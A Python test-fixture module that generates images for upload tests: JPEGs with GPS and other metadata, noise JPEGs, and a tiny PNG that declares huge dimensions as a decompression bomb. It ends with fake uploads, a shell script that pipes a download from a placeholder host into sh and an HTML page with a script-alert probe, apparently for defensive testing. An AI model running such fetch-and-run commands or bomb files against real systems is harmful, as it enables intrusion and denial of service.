"""Image files for the tests of uploads (and the uploads bench): real encodings made
with Pillow, and a few files that only look like images."""

from __future__ import annotations

import io
import random
import struct
import zlib

from PIL import Image, ImageCms

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg_with_gps(width: int = 1200, height: int = 800, orientation: int = 1) -> bytes:
    """A photo as phones write them: EXIF with a camera maker, an orientation and a GPS
    position, XMP, a comment and an ICC profile. Its top-left quarter is blue."""
    image = Image.new("RGB", (width, height), (200, 120, 40))
    image.paste((20, 40, 220), (0, 0, width // 4, height // 4))
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "PhoneMaker"
    exif[GPS_IFD] = {1: "N", 2: (9.0, 58.0, 12.0), 3: "E", 4: (76.0, 16.0, 48.0)}
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), comment=b"secret note", icc_profile=srgb, xmp=XMP)
    return out.getvalue()


# An XMP packet with a position, as photo apps write beside EXIF.
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF'
    b' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description'
    b' xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="9,58.2N"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def png(width: int = 64, height: int = 48, colour: tuple[int, ...] = (0, 160, 0)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB" if len(colour) == 3 else "RGBA", (width, height), colour).save(out, "PNG")
    return out.getvalue()


def noise_jpeg(target_bytes: int, seed: int = 0, quality: int = 90) -> bytes:
    """A JPEG of random pixels of about ``target_bytes`` (noise compresses badly, as the
    worst photos do): a real encoding, sized by its side."""
    rng = random.Random(seed)
    side = max(16, int((target_bytes / 0.93) ** 0.5))  # ~0.93 bytes per pixel at q90
    pixels = rng.randbytes(side * side * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), pixels).save(out, "JPEG", quality=quality)
    return out.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A PNG of a few dozen bytes whose header declares ``width`` x ``height``: the shape
    of a decompression bomb (the pixels are never there)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"
